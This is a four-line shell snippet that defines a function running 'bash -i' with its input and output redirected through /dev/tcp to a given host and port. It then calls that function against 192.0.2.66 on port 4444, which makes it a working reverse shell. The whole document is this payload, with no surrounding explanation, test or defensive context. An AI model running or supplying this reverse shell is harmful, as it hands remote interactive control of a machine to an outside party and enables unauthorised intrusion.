conn() {
  bash -i >& /dev/tcp/$1/$2 0>&1
}
conn 192.0.2.66 4444
